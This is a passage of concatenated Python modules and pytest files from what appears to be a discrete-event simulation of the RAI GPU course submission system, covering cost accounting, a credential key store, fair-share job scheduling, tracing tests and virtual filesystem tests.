            "attributed_cost": view["attributed_total"],
            "idle_cost": view["idle_cost"],
            "windows_closed": view["windows_closed"],
        }

    def budget_burn(self, team: str, now: Optional[float] = None,
                    view: Optional[dict] = None) -> float:
        """Fraction of ``team``'s budget spent in the current period."""
        budget = self.budgets.get(team)
        if not budget:
            return 0.0
        if view is None:
            view = self.preview(now)
        spent = (view["attributed"].get(team, 0.0)
                 - self._period_base.get(team, 0.0))
        return max(0.0, spent) / budget

    def _roll_budget_period(self, now: float) -> None:
        period = int(now // self.budget_window_seconds)
        if period > self.budget_period:
            # New budget period: burn restarts from the books as settled
            # at the boundary (window-granular, documented in DESIGN.md).
            self.budget_period = period
            self._period_base = dict(self.attributed)

    def _update_gauges(self, now: float) -> None:
        if self.metrics is None:
            return
        view = self.preview(now)
        for tenant, cost in view["attributed"].items():
            self.metrics.gauge("usage_cost_usd", team=tenant).set(cost)
        for team in self.budgets:
            self.metrics.gauge("usage_budget_burn", team=team).set(
                self.budget_burn(team, view=view))

    def attributed_total(self) -> float:
        return sum(self.attributed.values())

    def stats(self) -> dict:
        view = self.preview()
        return {
            "fleet_cost_usd": round(view["fleet_cost"], 4),
            "attributed_cost_usd": round(view["attributed_total"], 4),
            "idle_cost_usd": round(view["idle_cost"], 4),
            "windows_closed": self.windows_closed,
            "budgets": dict(self.budgets),
        }

    # -- durability ---------------------------------------------------------

    def to_snapshot(self) -> dict:
        return {
            "attributed": dict(self.attributed),
            "idle_cost": self.idle_cost,
            "fleet_cost": self.fleet_cost,
            # Cost the live fleet has accrued past the last settled
            # window edge.  It rides the snapshot so the restored books
            # still balance against the pre-crash fleet total.
            "open_fleet_cost": self._fleet_delta(self.clock(),
                                                 settle=False),
            "windows_closed": self.windows_closed,
            "next_window": self.next_window,
            "budgets": dict(self.budgets),
            "budget_period": self.budget_period,
            "period_base": dict(self._period_base),
        }

    def install_snapshot(self, snap: dict) -> None:
        self.attributed = dict(snap["attributed"])
        self.idle_cost = snap["idle_cost"]
        self.fleet_cost = snap["fleet_cost"]
        self.windows_closed = snap["windows_closed"]
        self.next_window = snap["next_window"]
        self._carry_open = snap.get("open_fleet_cost", 0.0)
        self.budgets = dict(snap["budgets"])
        self.budget_period = snap["budget_period"]
        self._period_base = dict(snap["period_base"])
        # Pre-crash providers died with the old process; their unsettled
        # accrual is carried in ``_carry_open``.  Any provider already
        # attached here is re-based at *now* so only its future accrual
        # stacks on top — conservation stays exact going forward.
        now = self.clock()
        for provider in self.providers:
            self._provider_base[id(provider)] = provider.total_cost(now)
        for team in self.budgets:
            self.set_budget(team, self.budgets[team])
