"""Access/secret key pairs and the server-side key store."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

import numpy as np

from repro.errors import InvalidCredentials

#: Alphabet used by the paper's visible examples (Listing 3 keys are
#: base62ish with '-'); we stick to unambiguous base62.
_KEY_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
KEY_LENGTH = 26


def generate_key(rng: np.random.Generator, length: int = KEY_LENGTH) -> str:
    """One random key string (deterministic under a seeded generator)."""
    idx = rng.integers(0, len(_KEY_ALPHABET), size=length)
    return "".join(_KEY_ALPHABET[i] for i in idx)


@dataclass
class Credential:
    """One issued identity."""

    username: str
    access_key: str
    secret_key: str
    team: Optional[str] = None
    role: str = "student"        # or "instructor"
    revoked: bool = False
    metadata: Dict[str, str] = field(default_factory=dict)

    def profile_lines(self) -> str:
        """The three lines a student pastes into ``.rai.profile``."""
        return (f"RAI_USER_NAME='{self.username}'\n"
                f"RAI_ACCESS_KEY='{self.access_key}'\n"
                f"RAI_SECRET_KEY='{self.secret_key}'\n")


class KeyStore:
    """Issues, looks up, verifies, and revokes credentials."""

    def __init__(self, rng: Optional[np.random.Generator] = None):
        self._rng = rng if rng is not None else np.random.default_rng(0)
        self._by_access: Dict[str, Credential] = {}
        self._by_user: Dict[str, Credential] = {}

    def issue(self, username: str, team: Optional[str] = None,
              role: str = "student") -> Credential:
        """Create and register a new credential for ``username``.

        Re-issuing for an existing username revokes the old credential
        (lost-key recovery).
        """
        old = self._by_user.get(username)
        if old is not None:
            old.revoked = True
        cred = Credential(
            username=username,
            access_key=generate_key(self._rng),
            secret_key=generate_key(self._rng),
            team=team,
            role=role,
        )
        self._by_access[cred.access_key] = cred
        self._by_user[username] = cred
        return cred

    def restore_credential(self, doc: dict) -> Credential:
        """Re-register a credential from its snapshot/journal document.

        Recovery path: the key material already exists, so nothing is
        drawn from the RNG — the restored deployment accepts exactly the
        keys students already have in their ``.rai.profile`` files.
        """
        cred = Credential(
            username=doc["username"],
            access_key=doc["access_key"],
            secret_key=doc["secret_key"],
            team=doc.get("team"),
            role=doc.get("role", "student"),
            revoked=bool(doc.get("revoked", False)),
            metadata=dict(doc.get("metadata", {})),
        )
        self._by_access[cred.access_key] = cred
        self._by_user[cred.username] = cred
        return cred

    def lookup(self, access_key: str) -> Credential:
        cred = self._by_access.get(access_key)
        if cred is None or cred.revoked:
            raise InvalidCredentials("unknown or revoked access key")
        return cred

    def verify_pair(self, access_key: str, secret_key: str) -> Credential:
        """Check an access/secret pair (§V, Client Execution step 2)."""
        cred = self.lookup(access_key)
        if cred.secret_key != secret_key:
            raise InvalidCredentials("secret key does not match")
        return cred

    def revoke(self, username: str) -> bool:
        cred = self._by_user.get(username)
        if cred is None:
            return False
        cred.revoked = True
        return True

    def credentials(self) -> List[Credential]:
        return [self._by_user[u] for u in sorted(self._by_user)]

    def __len__(self) -> int:
        return len(self._by_user)
