"""Deficit-round-robin dequeue with deadline boost and SJF tie-breaks."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

from repro.sched.estimator import RuntimeEstimator


@dataclass
class SchedulerPolicy:
    """Knobs for :class:`JobScheduler`."""

    #: Executor-seconds credited to every queued team per DRR round.
    quantum_seconds: float = 5.0
    #: Deficit ceiling — an absent-but-queued team cannot bank unbounded
    #: credit and then monopolise the executors when it returns.
    deficit_cap_seconds: float = 120.0
    #: Course deadline on the simulation clock (None disables the boost).
    deadline_at: Optional[float] = None
    #: Jobs *submitted* within this many seconds before the deadline form
    #: the priority band that dequeues first.
    deadline_window_seconds: float = 24 * 3600.0
    #: Queue-wait EWMA blend weight (autoscaler signal).
    wait_ewma_alpha: float = 0.2
    #: Queue-wait EWMA half-life: with no dispatches for this many
    #: seconds the signal halves, so a drained storm stops demanding
    #: capacity.
    wait_ewma_half_life: float = 600.0

    def __post_init__(self):
        if self.quantum_seconds <= 0:
            raise ValueError("quantum_seconds must be > 0")
        if self.deficit_cap_seconds <= 0:
            raise ValueError("deficit_cap_seconds must be > 0")
        if not 0.0 < self.wait_ewma_alpha <= 1.0:
            raise ValueError("wait_ewma_alpha must be in (0, 1]")
        if self.wait_ewma_half_life <= 0:
            raise ValueError("wait_ewma_half_life must be > 0")


class JobScheduler:
    """Per-team fair-share dequeue policy for a broker channel.

    Plugged into :attr:`repro.broker.topic.Channel.scheduler`; the channel
    calls :meth:`select` to pick which queued message dequeues next and
    :meth:`note_dispatch` as each message is claimed.

    Ordering, most- to least-significant:

    1. **Deadline band** — messages submitted inside the deadline window
       dequeue before everything else.
    2. **Deficit round robin within the band** — each team present in the
       candidate set accrues ``quantum_seconds`` of credit per round; a
       team is eligible once its credit covers its expected job cost, and
       dispatch debits the credit.  One team flooding the queue gains
       nothing: its credit accrues at the same rate as everyone else's.
    3. **Shortest expected job first** — among simultaneously eligible
       teams, the one whose jobs historically finish fastest goes first.
    4. FIFO within a team.
    """

    def __init__(self, clock, policy: Optional[SchedulerPolicy] = None,
                 estimator: Optional[RuntimeEstimator] = None,
                 metrics=None, events=None,
                 hit_predictor=None, hit_cost_factor: float = 0.35):
        self.clock = clock
        self.policy = policy or SchedulerPolicy()
        self.estimator = estimator or RuntimeEstimator()
        self.metrics = metrics
        #: Optional :class:`~repro.obs.events.EventLog` for dispatch records.
        self.events = events
        #: Optional ``predictor(msg) -> bool``: True when the job is
        #: expected to hit the build-artifact cache (its source tree has
        #: built before), shrinking its SJF cost by ``hit_cost_factor``.
        self.hit_predictor = hit_predictor
        self.hit_cost_factor = float(hit_cost_factor)
        self._deficits: Dict[str, float] = {}
        self.total_dispatched = 0
        self.total_boosted = 0
        self._wait_ewma = 0.0
        self._wait_updated_at: Optional[float] = None
        self._team_wait_sum: Dict[str, float] = {}
        self._team_wait_count: Dict[str, int] = {}

    # -- message inspection ---------------------------------------------

    @staticmethod
    def _key(msg) -> str:
        """Fair-share key for a message: team, else username, else ''.

        Defensive against junk bodies (tests flood channels with bare
        dicts and non-dict payloads); unkeyable messages share one
        anonymous bucket, which degrades to FIFO — never a crash.
        """
        body = getattr(msg, "body", None)
        if not isinstance(body, dict):
            return ""
        key = body.get("team") or body.get("username") or ""
        return str(key)

    def _boosted(self, msg) -> bool:
        deadline = self.policy.deadline_at
        if deadline is None:
            return False
        ts = getattr(msg, "timestamp", None)
        if ts is None:
            return False
        return deadline - self.policy.deadline_window_seconds <= ts <= deadline

    def _cost(self, key: str, msg=None) -> float:
        expected = self.estimator.expected(key)
        if msg is not None and self.hit_predictor is not None \
                and self.hit_predictor(msg):
            expected *= self.hit_cost_factor
        return min(expected, self.policy.deficit_cap_seconds)

    # -- the channel-facing policy --------------------------------------

    def select(self, items: Sequence) -> int:
        """Index into ``items`` of the message to dequeue next."""
        if len(items) <= 1:
            return 0

        # 1. Deadline band: restrict candidates to boosted messages when
        #    any exist.  DRR still runs *within* the band, so a deadline
        #    storm by one team cannot starve the others' deadline jobs.
        candidates: List[int] = [i for i, msg in enumerate(items)
                                 if self._boosted(msg)]
        if not candidates:
            candidates = list(range(len(items)))

        # First queued index per team, in FIFO discovery order.
        first_index: Dict[str, int] = {}
        for i in candidates:
            key = self._key(items[i])
            if key not in first_index:
                first_index[key] = i
        if len(first_index) == 1:
            return next(iter(first_index.values()))

        # 2. DRR: accrue quantum until some team's credit covers its
        #    expected cost.  Bounded: every round raises all deficits.
        teams = list(first_index)
        deficits = self._deficits
        cap = self.policy.deficit_cap_seconds
        costs = {key: self._cost(key, items[first_index[key]])
                 for key in teams}
        eligible = [k for k in teams if deficits.get(k, 0.0) >= costs[k]]
        while not eligible:
            for key in teams:
                deficits[key] = min(cap,
                                    deficits.get(key, 0.0)
                                    + self.policy.quantum_seconds)
            eligible = [k for k in teams if deficits[k] >= costs[k]]

        # 3./4. SJF among eligible teams, FIFO tie-break, then FIFO
        #       within the winning team.
        winner = min(eligible, key=lambda k: (costs[k], first_index[k]))
        deficits[winner] = deficits.get(winner, 0.0) - costs[winner]

        # Forget teams no longer queued at all (not merely outside the
        # band) so a finished team's stale credit does not linger.
        queued_keys = {self._key(msg) for msg in items}
        for key in list(deficits):
            if key not in queued_keys:
                del deficits[key]

        return first_index[winner]

    # -- dispatch/completion observation --------------------------------

    def note_dispatch(self, msg) -> None:
        """Observe one claimed message: queue-wait EWMA + per-team waits."""
        self.total_dispatched += 1
        if self._boosted(msg):
            self.total_boosted += 1
        ts = getattr(msg, "timestamp", None)
        if ts is None:
            return
        now = self.clock()
        wait = max(0.0, now - ts)
        alpha = self.policy.wait_ewma_alpha
        self._wait_ewma = (1 - alpha) * self._decayed_ewma(now) + alpha * wait
        self._wait_updated_at = now
        key = self._key(msg)
        self._team_wait_sum[key] = self._team_wait_sum.get(key, 0.0) + wait
        self._team_wait_count[key] = self._team_wait_count.get(key, 0) + 1
        headers = getattr(msg, "headers", None) or {}
        trace_id = headers.get("trace_id")
        if self.metrics is not None:
            # trace_id pins an exemplar to the wait's bucket: a burned
            # queue-wait SLO names the exact job that waited this long.
            self.metrics.histogram("sched_queue_wait_seconds").observe(
                wait, trace_id=trace_id, at=now)
        if self.events is not None:
            body = getattr(msg, "body", None)
            body = body if isinstance(body, dict) else {}
            self.events.emit("sched.dispatch", at=now,
                             trace_id=trace_id,
                             span_id=headers.get("span_id"),
                             job_id=body.get("job_id"), team=key or None,
                             wait=round(wait, 6),
                             boosted=self._boosted(msg))

    def note_completion(self, key: str, service_seconds: float) -> None:
        """Feed a finished job's service time back into the estimator."""
        self.estimator.observe(key, service_seconds)

    # -- signals ---------------------------------------------------------

    def _decayed_ewma(self, now: float) -> float:
        if self._wait_updated_at is None:
            return 0.0
        idle = max(0.0, now - self._wait_updated_at)
        return self._wait_ewma * \
            0.5 ** (idle / self.policy.wait_ewma_half_life)

    def wait_ewma(self) -> float:
        """Queue-wait EWMA, decayed to the current sim time.

        The autoscaler's scale-out signal: high while dispatches are
        waiting long, falling back to zero once the queue drains.
        """
        return self._decayed_ewma(self.clock())

    def wait_stats(self) -> dict:
        """Per-team and global mean queue waits (fairness evidence)."""
        teams = {}
        total_sum, total_count = 0.0, 0
        for key, wsum in self._team_wait_sum.items():
            count = self._team_wait_count.get(key, 0)
            teams[key] = {"mean_wait": wsum / count if count else 0.0,
                          "dispatched": count}
            total_sum += wsum
            total_count += count
        return {
            "teams": teams,
            "global_mean_wait": total_sum / total_count if total_count else 0.0,
            "dispatched": self.total_dispatched,
            "boosted": self.total_boosted,
            "wait_ewma": self.wait_ewma(),
        }
