"""Discrete-event simulation kernel.

Every RAI component — clients, the message broker, workers, the autoscaler,
and the synthetic student population — runs as a coroutine *process* on this
kernel.  The design follows the classic event-calendar model (and borrows
simpy's generator-based process API): a process is a Python generator that
``yield``\\ s :class:`~repro.sim.events.Event` objects and is resumed when
they fire.  Simulated time only advances between events, so a five-week
course with tens of thousands of submissions replays in a couple of seconds
of wall clock while preserving the exact interleavings a real deployment
would exhibit.

Public surface::

    sim = Simulator()
    def proc(sim):
        yield sim.timeout(3.0)
        return "done"
    p = sim.process(proc(sim))
    sim.run()
    assert p.value == "done" and sim.now == 3.0
"""

from repro.sim.events import (
    PENDING,
    Event,
    Timeout,
    Condition,
    AllOf,
    AnyOf,
)
from repro.sim.kernel import Simulator, Process, PRIORITY_URGENT, PRIORITY_NORMAL
from repro.sim.resources import Resource, PriorityResource, Store, Container
from repro.sim.random import RandomStreams
from repro.sim.monitor import Monitor, TimeSeries, Tally, Counter
from repro.errors import Interrupt, EmptySchedule, StopSimulation, SimulationError

__all__ = [
    "PENDING",
    "Event",
    "Timeout",
    "Condition",
    "AllOf",
    "AnyOf",
    "Simulator",
    "Process",
    "PRIORITY_URGENT",
    "PRIORITY_NORMAL",
    "Resource",
    "PriorityResource",
    "Store",
    "Container",
    "RandomStreams",
    "Monitor",
    "TimeSeries",
    "Tally",
    "Counter",
    "Interrupt",
    "EmptySchedule",
    "StopSimulation",
    "SimulationError",
]
