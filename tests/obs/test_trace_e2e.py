"""End-to-end tracing: one submission = one trace across every tier."""

import json

import pytest

from repro.core.cli import RaiCLI
from repro.core.config import SystemConfig
from repro.core.job import JobStatus
from repro.core.system import RaiSystem
from repro.obs.export import (
    export_metrics_json,
    export_spans_jsonl,
    export_trace_json,
)
from repro.obs.waterfall import (
    critical_path,
    critical_path_report,
    render_trace_report,
)

pytestmark = pytest.mark.obs

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\nint main(){}\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}


@pytest.fixture
def traced_run():
    system = RaiSystem.standard(num_workers=1, seed=21)
    client = system.new_client(team="trace-team")
    client.stage_project(FILES)
    result = system.run(client.submit())
    assert result.status is JobStatus.SUCCEEDED
    return system, result


class TestSingleSubmissionTrace:
    def test_one_trace_covers_every_tier(self, traced_run):
        system, result = traced_run
        trace = system.tracer.trace_for_job(result.job_id)
        assert trace is not None
        names = {s.name for s in trace.spans}
        # client → broker → worker → container → storage → docdb.
        assert {"client.submit", "client.upload", "client.publish",
                "broker.deliver", "worker.job", "buildspec.parse",
                "storage.get", "container.run", "container.exec",
                "storage.put", "docdb.record",
                "result.publish"} <= names
        # Exactly one trace for the whole submission.
        assert len({s.trace_id for s in trace.spans}) == 1

    def test_parent_child_nesting(self, traced_run):
        system, result = traced_run
        trace = system.tracer.trace_for_job(result.job_id)

        def parent_of(span):
            return trace.span(span.parent_id)

        root = trace.root()
        assert root.name == "client.submit"
        assert root.parent_id is None

        publish = trace.find("client.publish")[0]
        assert parent_of(publish) is root

        deliver = trace.find("broker.deliver")[0]
        assert parent_of(deliver) is publish

        worker_job = trace.find("worker.job")[0]
        assert parent_of(worker_job) is deliver

        for name in ("buildspec.parse", "storage.get", "container.run",
                     "storage.put", "docdb.record", "result.publish"):
            assert parent_of(trace.find(name)[0]) is worker_job, name

        for exec_span in trace.find("container.exec"):
            assert parent_of(exec_span).name == "container.run"

    def test_sim_clock_timestamps(self, traced_run):
        system, result = traced_run
        trace = system.tracer.trace_for_job(result.job_id)
        root = trace.root()
        for span in trace.spans:
            assert not span.is_open
            assert span.end_time >= span.start_time
            assert span.start_time >= root.start_time
            assert span.end_time <= root.end_time
        # The trace spans real simulated time, not wall-clock zero.
        assert root.duration > 1.0

    def test_key_attributes_and_events(self, traced_run):
        system, result = traced_run
        trace = system.tracer.trace_for_job(result.job_id)
        worker_job = trace.find("worker.job")[0]
        assert worker_job.attributes["job_id"] == result.job_id
        assert worker_job.attributes["attempt"] == 1
        assert worker_job.attributes["status"] == "succeeded"
        upload = trace.find("client.upload")[0]
        assert any(e[1] == "chunk.negotiation" for e in upload.events)
        for exec_span in trace.find("container.exec"):
            assert exec_span.attributes["exit_code"] == 0

    def test_critical_path_identifies_dominant_stage(self, traced_run):
        system, result = traced_run
        trace = system.tracer.trace_for_job(result.job_id)
        path = critical_path(trace)
        assert path[0].name == "client.submit"
        assert "worker.job" in [s.name for s in path]
        report = critical_path_report(trace)
        # The cold image pull dominates this run, and it is worker time —
        # not mis-attributed to the waiting client.
        assert report["dominant"]["name"] == "worker.job"
        assert report["total_s"] == pytest.approx(
            trace.end_time() - trace.start_time())

    def test_render_and_cli(self, traced_run):
        system, result = traced_run
        text = render_trace_report(system.tracer.trace_for_job(result.job_id))
        assert "client.submit" in text
        assert "critical path" in text
        assert "◀ dominant" in text

        client = system.new_client(team="cli-team")
        client.stage_project(FILES)
        cli = RaiCLI(system, client)
        cli.run_command("rai run")
        out = cli.run_command("rai trace")
        assert "worker.job" in out
        by_id = cli.run_command(f"rai trace {result.job_id}")
        assert result.job_id in by_id
        assert "no trace recorded" in cli.run_command("rai trace job-999999")

    def test_exporters_produce_valid_json(self, traced_run, tmp_path):
        system, result = traced_run
        trace = system.tracer.trace_for_job(result.job_id)

        trace_path = tmp_path / "trace.json"
        export_trace_json(trace, path=str(trace_path))
        doc = json.loads(trace_path.read_text())
        assert doc["trace_id"] == trace.trace_id
        assert len(doc["spans"]) == len(trace.spans)

        jsonl_path = tmp_path / "spans.jsonl"
        export_spans_jsonl(system.tracer.store, path=str(jsonl_path))
        lines = [json.loads(line) for line in
                 jsonl_path.read_text().splitlines()]
        assert len(lines) == len(trace.spans)

        metrics_path = tmp_path / "metrics.json"
        export_metrics_json(system.metrics, path=str(metrics_path))
        snap = json.loads(metrics_path.read_text())
        assert snap["counters"]["jobs_submitted"][""] == 1
        assert "broker_messages_published" in snap["counters"]


class TestTracingDisabled:
    def test_disabled_records_nothing_same_outcome(self):
        config = SystemConfig(tracing_enabled=False)
        system = RaiSystem.standard(num_workers=1, seed=21, config=config)
        client = system.new_client(team="trace-team")
        client.stage_project(FILES)
        result = system.run(client.submit())
        assert result.status is JobStatus.SUCCEEDED
        assert len(system.tracer.store) == 0
        assert system.tracer.trace_for_job(result.job_id) is None
        cli = RaiCLI(system, client)
        assert "disabled" in cli.run_command(f"rai trace {result.job_id}")


class TestRegistryFeedsSystem:
    def test_gauges_and_broker_counters_share_registry(self, traced_run):
        system, result = traced_run
        # The six deployment gauges exist and are callback-backed.
        for name in ("queue_depth", "workers_running", "jobs_active",
                     "storage_bytes", "in_flight", "dead_letters"):
            gauge = system.metrics.get(name)
            assert gauge is not None and gauge.fn is not None, name
        assert system.metrics.value("workers_running") == 1
        # Broker tallies live in the same registry, prefixed.
        assert system.metrics.value("broker_messages_published") > 0
        assert system.broker.total_bytes_published == \
            system.metrics.value("broker_bytes_published")
        # Span creation feeds obs counters.
        assert system.metrics.value("obs_spans_started") == \
            system.tracer.store.total_spans
        assert system.metrics.value("obs_traces_started") == 1
        # The submit latency histogram observed the run.
        hist = system.metrics.get("job_turnaround_seconds")
        assert hist.count == 1
