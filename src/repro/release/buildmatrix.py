"""The ten-target cross-compilation matrix of Figure 3."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict


@dataclass(frozen=True)
class BuildTarget:
    """One OS/architecture pair the client is built for."""

    os: str
    arch: str

    @property
    def key(self) -> str:
        return f"{self.os}-{self.arch}"

    @property
    def binary_name(self) -> str:
        suffix = ".exe" if self.os == "windows" else ""
        return f"rai-{self.os}-{self.arch}{suffix}"


#: Figure 3's exact rows: 6 Linux, 2 Darwin, 2 Windows targets.
BUILD_MATRIX = (
    BuildTarget("linux", "i386"),
    BuildTarget("linux", "amd64"),
    BuildTarget("linux", "armv5"),
    BuildTarget("linux", "armv6"),
    BuildTarget("linux", "armv7"),
    BuildTarget("linux", "arm64"),
    BuildTarget("darwin", "i386"),
    BuildTarget("darwin", "amd64"),
    BuildTarget("windows", "i386"),
    BuildTarget("windows", "amd64"),
)


@dataclass(frozen=True)
class Artifact:
    """A built client binary with its embedded build metadata.

    "The commit version information and build date are embedded within the
    RAI binary.  Students would provide this information when they
    reported bugs, which allowed us to narrow which commit introduced the
    regression." (§VII)
    """

    target: BuildTarget
    branch: str
    commit: str
    version: str
    build_date: str
    url: str
    size_bytes: int

    def embedded_info(self) -> Dict[str, str]:
        """What ``rai version`` prints for this binary."""
        return {
            "version": self.version,
            "branch": self.branch,
            "commit": self.commit,
            "build_date": self.build_date,
            "os": self.target.os,
            "arch": self.target.arch,
        }
