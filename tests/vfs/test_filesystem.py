"""Unit tests for the virtual filesystem."""

import pytest

from repro.errors import (
    FileExists,
    FileNotFound,
    IsADirectory,
    NotADirectory,
    ReadOnlyFilesystem,
)
from repro.vfs import VirtualFileSystem


@pytest.fixture
def fs():
    return VirtualFileSystem()


class TestBasicIO:
    def test_write_and_read(self, fs):
        fs.write_file("/a.txt", "hello")
        assert fs.read_text("/a.txt") == "hello"
        assert fs.read_file("/a.txt") == b"hello"

    def test_write_creates_parents(self, fs):
        fs.write_file("/deep/nested/file", b"x")
        assert fs.isdir("/deep/nested")

    def test_write_without_parents_fails(self, fs):
        with pytest.raises(FileNotFound):
            fs.write_file("/no/parent", b"x", create_parents=False)

    def test_overwrite_replaces(self, fs):
        fs.write_file("/f", "one")
        fs.write_file("/f", "two")
        assert fs.read_text("/f") == "two"

    def test_read_missing_raises(self, fs):
        with pytest.raises(FileNotFound):
            fs.read_file("/missing")

    def test_read_dir_raises(self, fs):
        fs.makedirs("/d")
        with pytest.raises(IsADirectory):
            fs.read_file("/d")

    def test_write_over_dir_raises(self, fs):
        fs.makedirs("/d")
        with pytest.raises(IsADirectory):
            fs.write_file("/d", b"x")

    def test_append(self, fs):
        fs.write_file("/log", "a")
        fs.append_file("/log", "b")
        assert fs.read_text("/log") == "ab"

    def test_append_creates(self, fs):
        fs.append_file("/new", "x")
        assert fs.read_text("/new") == "x"


class TestDirectories:
    def test_mkdir(self, fs):
        fs.mkdir("/d")
        assert fs.isdir("/d")

    def test_mkdir_existing_raises(self, fs):
        fs.mkdir("/d")
        with pytest.raises(FileExists):
            fs.mkdir("/d")

    def test_mkdir_exist_ok(self, fs):
        fs.mkdir("/d")
        fs.mkdir("/d", exist_ok=True)

    def test_mkdir_needs_parents(self, fs):
        with pytest.raises(FileNotFound):
            fs.mkdir("/a/b")
        fs.mkdir("/a/b", parents=True)
        assert fs.isdir("/a/b")

    def test_listdir_sorted(self, fs):
        for name in ("c", "a", "b"):
            fs.write_file(f"/{name}", b"")
        assert fs.listdir("/") == ["a", "b", "c"]

    def test_listdir_file_raises(self, fs):
        fs.write_file("/f", b"")
        with pytest.raises(NotADirectory):
            fs.listdir("/f")

    def test_walk_order(self, fs):
        fs.import_mapping({"b/x": "1", "a/y": "2", "top": "3"}, "/")
        walked = list(fs.walk("/"))
        assert walked[0] == ("/", ["a", "b"], ["top"])
        assert walked[1][0] == "/a"
        assert walked[2][0] == "/b"

    def test_iter_files(self, fs):
        fs.import_mapping({"a/1": "x", "b/2": "y"}, "/")
        assert list(fs.iter_files("/")) == ["/a/1", "/b/2"]

    def test_tree_size_and_count(self, fs):
        fs.write_file("/a", b"12345")
        fs.write_file("/d/b", b"123")
        assert fs.tree_size("/") == 8
        assert fs.file_count("/") == 2


class TestRemoval:
    def test_remove_file(self, fs):
        fs.write_file("/f", b"")
        fs.remove("/f")
        assert not fs.exists("/f")

    def test_remove_missing_raises(self, fs):
        with pytest.raises(FileNotFound):
            fs.remove("/nope")

    def test_remove_dir_raises(self, fs):
        fs.makedirs("/d")
        with pytest.raises(IsADirectory):
            fs.remove("/d")

    def test_rmtree(self, fs):
        fs.import_mapping({"d/a": "1", "d/sub/b": "2"}, "/")
        fs.rmtree("/d")
        assert not fs.exists("/d")

    def test_rmtree_root_resets(self, fs):
        fs.write_file("/x", b"")
        fs.rmtree("/")
        assert fs.file_count("/") == 0


class TestCopyMove:
    def test_copy_file(self, fs):
        fs.write_file("/src.txt", "data")
        fs.copy("/src.txt", "/dst.txt")
        assert fs.read_text("/dst.txt") == "data"
        assert fs.exists("/src.txt")

    def test_copy_tree(self, fs):
        fs.import_mapping({"src/a": "1", "src/sub/b": "2"}, "/")
        fs.copy("/src", "/dst")
        assert fs.read_text("/dst/a") == "1"
        assert fs.read_text("/dst/sub/b") == "2"

    def test_copy_into_existing_dir_uses_basename(self, fs):
        """cp -r /src /build puts it at /build/src (coreutils rule)."""
        fs.import_mapping({"src/a": "1"}, "/")
        fs.makedirs("/build")
        fs.copy("/src", "/build")
        assert fs.read_text("/build/src/a") == "1"

    def test_copy_dir_into_itself_rejected(self, fs):
        fs.import_mapping({"d/a": "1"}, "/")
        with pytest.raises(FileExists):
            fs.copy("/d", "/d/inner")

    def test_copy_is_deep(self, fs):
        fs.write_file("/a", "orig")
        fs.copy("/a", "/b")
        fs.write_file("/a", "changed")
        assert fs.read_text("/b") == "orig"

    def test_move(self, fs):
        fs.write_file("/a", "data")
        fs.move("/a", "/b")
        assert not fs.exists("/a")
        assert fs.read_text("/b") == "data"


class TestReadOnly:
    def test_readonly_blocks_writes(self, fs):
        fs.import_mapping({"src/main.cu": "code"}, "/")
        fs.set_readonly("/src")
        with pytest.raises(ReadOnlyFilesystem):
            fs.write_file("/src/other", b"x")
        with pytest.raises(ReadOnlyFilesystem):
            fs.remove("/src/main.cu")
        with pytest.raises(ReadOnlyFilesystem):
            fs.rmtree("/src")

    def test_readonly_allows_reads(self, fs):
        fs.import_mapping({"src/main.cu": "code"}, "/")
        fs.set_readonly("/src")
        assert fs.read_text("/src/main.cu") == "code"

    def test_writes_outside_prefix_ok(self, fs):
        fs.set_readonly("/src")
        fs.write_file("/build/out", b"fine")

    def test_clear_readonly(self, fs):
        fs.import_mapping({"src/a": "1"}, "/")
        fs.set_readonly("/src")
        fs.clear_readonly("/src")
        fs.write_file("/src/b", b"now ok")


class TestImportExport:
    def test_mapping_roundtrip(self, fs):
        mapping = {"a.txt": b"1", "d/b.txt": b"2"}
        fs.import_mapping(mapping, "/proj")
        assert fs.export_mapping("/proj") == mapping

    def test_trailing_slash_creates_dir(self, fs):
        fs.import_mapping({"empty/": ""}, "/")
        assert fs.isdir("/empty")

    def test_graft_between_filesystems(self, fs):
        other = VirtualFileSystem()
        other.import_mapping({"x/y": "deep"}, "/")
        fs.graft(other, "/x", "/mounted")
        assert fs.read_text("/mounted/y") == "deep"
        # deep copy: mutating the source does not affect the graft
        other.write_file("/x/y", "changed")
        assert fs.read_text("/mounted/y") == "deep"

    def test_stat(self, fs):
        fs.write_file("/f", b"12345", executable=True)
        st = fs.stat("/f")
        assert st["type"] == "file"
        assert st["size"] == 5
        assert st["executable"]
        fs.makedirs("/d")
        assert fs.stat("/d")["type"] == "dir"

    def test_clock_stamps_mtime(self):
        now = [0.0]
        fs = VirtualFileSystem(clock=lambda: now[0])
        fs.write_file("/a", b"")
        now[0] = 42.0
        fs.write_file("/b", b"")
        assert fs.stat("/a")["mtime"] == 0.0
        assert fs.stat("/b")["mtime"] == 42.0
