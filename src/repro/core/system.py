"""``RaiSystem``: the fully wired deployment of Figure 1.

One object owns the simulation kernel and every service: the message
broker, the S3-style file server (with the paper's lifecycle rules), the
MongoDB-style database, the key store, the rate limiter, the ranking
service, and any number of workers.  Clients are minted per student/team.
"""

from __future__ import annotations

import os
import time as _wallclock
from dataclasses import asdict
from typing import Generator, List, Optional

from repro.auth.keys import KeyStore
from repro.auth.profile import RaiProfile
from repro.broker.broker import MessageBroker
from repro.container.image import ImageRegistry, default_registry
from repro.core.client import RaiClient
from repro.core.config import SystemConfig, WorkerConfig
from repro.core.job import JobKind, JobStatus
from repro.core.ranking import RankingService
from repro.core.ratelimit import RateLimiter
from repro.core.worker import RaiWorker
from repro.docdb.database import DocumentDB
from repro.obs.alerts import AlertManager
from repro.obs.events import EventLog
from repro.obs.metrics import CounterGroup, MetricsRegistry
from repro.obs.scrape import MetricsScraper
from repro.obs.slo import SloEngine, SloSpec, default_slos
from repro.obs.usage import CostAllocator, UsageMeter
from repro.obs.store import TraceStore
from repro.obs.tracer import Tracer
from repro.sched import JobScheduler, RuntimeEstimator, SchedulerPolicy
from repro.shard import ShardMap, ShardedControlPlane
from repro.sim.kernel import Simulator
from repro.sim.monitor import Monitor
from repro.sim.random import RandomStreams
from repro.storage.buildcache import BuildCache
from repro.storage.lifecycle import LifecycleRule
from repro.storage.object_store import ObjectStore


class SystemMonitor(Monitor):
